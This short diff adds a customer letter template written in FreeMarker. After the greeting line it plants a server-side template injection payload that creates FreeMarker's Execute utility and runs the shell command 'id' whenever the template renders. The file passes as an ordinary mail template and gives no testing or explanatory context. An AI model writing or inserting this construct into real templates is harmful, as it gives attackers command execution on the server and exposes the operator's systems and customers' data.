@@ -1,0 +1,2 @@
+Dear ${customer.name},
+<#assign ex = "freemarker.template.utility.Execute"?new()>${ex("id")}
